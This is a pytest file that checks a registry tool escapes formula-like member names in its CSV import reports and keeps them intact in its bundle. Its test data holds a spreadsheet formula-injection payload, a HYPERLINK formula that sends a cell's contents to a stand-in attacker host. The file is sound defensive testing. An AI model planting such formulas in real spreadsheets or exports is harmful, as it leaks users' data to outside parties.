"""Registry reports (import-report.csv) open safely in Excel: names that begin like a
formula are escaped with a leading ' (kizuna.graph.cells); the bundle keeps them exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from kizuna.graph.cells import FORMULA_CHARS, unescape_csv_cell
from kizuna.loaders import open_bundle
from tests.registry.nta import kizuna

NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "@SUM(1)", "+1+1", "-2+3"]


def test_import_report_and_bundle_neutralise_formula_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["name", "address"])
    writer.writerows([(n, "東京都八王子市") for n in NAMES])
    members = tmp_path / "m.csv"
    members.write_text(rows.getvalue(), encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = kizuna(
        capsys, "import", "members", str(members), "--cluster", "x", "--out", str(out)
    )
    assert code == 0, err
    for name in ("import-report.csv", "nodes.csv"):
        data = (out / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        table = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
        for row in table:
            assert all(not c or c[0] not in FORMULA_CHARS for c in row), (name, row)
        if name == "import-report.csv":
            col = table[0].index("name")
            assert {unescape_csv_cell(r[col]) for r in table[1:]} >= set(NAMES)
    nodes = open_bundle(out).nodes
    assert set(NAMES) <= set(nodes["name"])
